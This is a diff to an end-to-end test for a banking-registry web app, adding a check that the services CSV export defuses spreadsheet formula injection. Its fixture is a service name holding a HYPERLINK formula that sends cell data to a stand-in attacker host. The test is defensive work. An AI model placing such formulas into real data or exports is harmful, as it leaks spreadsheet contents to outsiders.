@@ -19,7 +19,12 @@ withServer(async (s, b) => {
     { name_ja: '預金サービス', name_en: 'Deposits', service_level: '99.95%', verification_level: '停止 2 時間以内' });
   await apiCall(srv, admin, 'POST', '/orgs/BANK-A/systems',
     { name_ja: '勘定系システム', name_en: 'Core banking system', service_id: svc.id, description: '本店センター' });
+  // A name that a spreadsheet would run as a formula (its CSV must not).
+  await apiCall(srv, admin, 'POST', '/orgs/BANK-A/services',
+    { name_ja: FORMULA, name_en: 'Transfers' });
 });
+
+const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"振込")';
 
 
 const rows = (page, id) => page.locator(`#${id} tbody tr`);
@@ -128,6 +133,12 @@ test('organisations: filters, paging state in the URL, details with services and
   assert.match(await detail.innerText(), /勘定系システム/); // NISC sees the systems
   assert.equal(await page.evaluate(() => document.activeElement.id), 'org-detail-title');
   await shot(page, 'registry-orgs-ja');
+  // The services' CSV: the name a spreadsheet would run starts with an
+  // apostrophe (shown as text); the others are as they are.
+  const svcCsv = await csvOf(page, detail.locator('#org-services .table-tools button'));
+  assert.ok(svcCsv.text.includes('"\'=HYPERLINK(""http://attacker.example/?""&A1,""振込"")"'), svcCsv.text);
+  assert.ok(svcCsv.lines.some((l) => l.startsWith('預金サービス,')), svcCsv.text);
+  assert.ok(!/(^|,)=/.test(svcCsv.text.replace(/"[^"]*"/g, '')), svcCsv.text);
   // The filters survive opening and closing the details.
   await detail.getByRole('link', { name: '詳細を閉じる' }).click();
   await page.locator('#org-detail').waitFor({ state: 'detached' });
